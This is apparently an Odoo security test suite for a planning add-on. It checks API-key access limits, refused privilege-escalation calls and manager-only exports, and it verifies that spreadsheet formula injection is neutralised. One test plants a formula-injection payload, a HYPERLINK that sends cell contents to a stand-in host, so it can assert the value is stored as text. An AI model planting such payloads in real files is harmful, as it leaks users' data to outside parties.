import csv
import io
import json
from datetime import datetime, timedelta

from openpyxl import load_workbook

from odoo import http
from odoo.tests import tagged
from odoo.tools import mute_logger

from .portal_common import PortalHttpCommon

# What the person has no right to, or what nobody may call: nothing of it is done.
REFUSED = (403, 404, 422)


@tagged("post_install", "-at_install", "security")
class TestDoorsHttp(PortalHttpCommon):
    """Odoo's own doors of HTTP give what RPC gives, and no more (design §9)."""

    def _get_key(self, user):
        self.authenticate(None, None)  # a key beside another one's session is refused
        keys = self.env["res.users.apikeys"].with_user(user).sudo()
        until = datetime.now() + timedelta(hours=1)
        key = keys._generate("rpc", "test", until)
        return {
            "Authorization": f"Bearer {key}",
            "Content-Type": "application/json",
        }

    def _call(self, key, model, method, **params):
        with mute_logger("odoo.http", "odoo.addons.base.models.ir_model"):
            url = f"/json/2/{model}/{method}"
            answer = self.url_open(url, data=json.dumps(params), headers=key)
        self.env.invalidate_all()
        return answer

    def _get_models(self):
        models = self.env["ir.model"].search([("model", "=like", "profplan.%")])
        found = [self.env[model.model] for model in models]
        stored = [one for one in found if not (one._abstract or one._transient)]
        return [*stored, self.env["project.task"], self.env["mail.message"]]

    def test_a_key_reads_what_its_person_reads(self):
        for user in (self.portal, self.viewer, self.user):
            key = self._get_key(user)
            for model in self._get_models():
                with self.subTest(model=model._name, user=user.login):
                    own = model.with_user(user)
                    allowed = own.has_access("read")
                    expected = set(own.search([]).ids) if allowed else None
                    answer = self._call(key, model._name, "search", domain=[])
                    if expected is None:
                        self.assertEqual(answer.status_code, 403, answer.text)
                    else:
                        self.assertEqual(set(answer.json()), expected)

    def test_a_key_does_no_more_than_its_person(self):
        self._put("plan_review")
        theirs, task = self.other_sheet, self._get_task("plan")
        tries = {
            self.portal: [
                (theirs, "read", {"fields": ["state"]}),
                (theirs.line_ids, "write", {"vals": {"responsible_name": "Чужая"}}),
                (theirs, "action_submit", {}),
                (self.sheet, "action_accept", {}),
                (self.sheet, "write", {"vals": {"state": "accepted"}}),
                (task, "write", {"vals": {"step": "done"}}),
                (self.sheet, "_as_engine", {}),
                (self.plan, "action_close", {"reason": "x"}),
                (self.plan, "action_send_out", {}),
            ],
            self.viewer: [
                (self.sheet, "action_accept", {}),
                (self.sheet, "action_return", {"remark": "x"}),
                (self.plan, "write", {"vals": {"name": "x"}}),
                (task, "unlink", {}),
                (task, "action_accept", {}),
            ],
            self.user: [
                (self.sheet, "action_accept", {}),
                (self.plan, "action_close", {"reason": "x"}),
                (task, "write", {"vals": {"control_date": "2030-01-01"}}),
                (self.sheet.line_ids, "unlink", {}),
            ],
        }
        before = self._look()
        switches = ("tracking_disable", "mail_notrack", "_force_unlink", "import_file")
        for user, calls in tries.items():
            key = self._get_key(user)
            for records, method, params in calls:
                for context in ({}, dict.fromkeys(switches, True)):
                    with self.subTest(user=user.login, method=method):
                        answer = self._call(
                            key,
                            records._name,
                            method,
                            ids=records.ids,
                            context=context,
                            **params,
                        )
                        self.assertIn(answer.status_code, REFUSED, answer.text[:300])
                        self.assertNotIn("Traceback", answer.json().get("message"))
                        self.assertEqual(self._look(), before)
        own = self._call(
            self._get_key(self.portal),
            "profplan.sheet",
            "action_withdraw",
            ids=[theirs.id],
        )
        self.assertIn(own.status_code, REFUSED)
        own = self._call(
            self._get_key(self.portal),
            "profplan.sheet",
            "action_withdraw",
            ids=self.sheet.ids,
        )
        self.assertEqual((own.status_code, self.sheet.state), (200, "planning"))

    def _look(self):
        """How sheets, lines and tasks stand, and how much of it is on record."""
        sheets = self.sheet | self.other_sheet
        return (
            sheets.mapped("state"),
            sheets.line_ids.mapped("responsible_name"),
            sheets.task_ids.mapped("step"),
            sheets.task_ids.mapped("control_date"),
            (self.plan.name, self.plan.state),
            self.env["profplan.change"].search_count([]),
        )

    def test_lists_are_exported_by_managers_as_they_see_them_and_by_nobody_else(self):
        for user in (self.portal, self.viewer, self.user, self.coordinator):
            for kind in ("csv", "xlsx"):
                with self.subTest(user=user.login, kind=kind):
                    refused = self._export(user, kind)
                    self.assertGreaterEqual(refused.status_code, 400)
                    self.assertNotIn(self.line.display_name, refused.text)
        lines = self.env["profplan.sheet.line"].with_user(self.manager).search([])
        expected = sorted(lines.mapped("display_name"))
        rows = list(csv.reader(io.StringIO(self._export(self.manager, "csv").text)))
        self.assertEqual(sorted(row[0] for row in rows[1:]), expected)
        book = load_workbook(io.BytesIO(self._export(self.manager, "xlsx").content))
        cells = [row[0].value for row in book.active.iter_rows(min_row=2)]
        self.assertEqual(sorted(cells), expected)

    def test_words_are_no_formulas_in_workbooks_of_odoo(self):
        words = '=HYPERLINK("https://x.example/?"&A1,"x")'
        self.line.sudo().responsible_name = words
        book = self._export(self.manager, "xlsx", "responsible_name").content
        cells = self._get_cells(book)
        self.assertIn((words, "s"), cells)
        heads = [[{"title": words, "width": 1, "height": 1}]]
        pivot = {
            "title": words,
            "col_group_headers": heads,
            "measure_headers": [{"title": words, "is_bold": False}],
            "origin_headers": [],
            "rows": [{"title": words, "indent": 0, "values": [{"value": words}]}],
            "model": "profplan.sheet.line",
            "measure_count": 1,
            "origin_count": 0,
        }
        token = {"csrf_token": http.Request.csrf_token(self)}
        sent = {"data": ("data", json.dumps(pivot))}
        answer = self.url_open("/web/pivot/export_xlsx", data=token, files=sent)
        cells = self._get_cells(answer.content)
        self.assertEqual({kind for value, kind in cells if value == words}, {"s"})
        self.assertGreaterEqual([value for value, _kind in cells].count(words), 3)

    def _get_cells(self, content):
        rows = load_workbook(io.BytesIO(content)).active.iter_rows()
        return [(cell.value, cell.data_type) for row in rows for cell in row]

    def _export(self, user, kind, field="display_name"):
        self._log_in(user)
        data = {
            "model": "profplan.sheet.line",
            "fields": [{"name": field, "label": "Name", "type": "char"}],
            "ids": False,
            "domain": [],
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        with mute_logger("odoo.addons.web.controllers.export", "odoo.http"):
            return self.url_open(f"/web/export/{kind}", data=form)
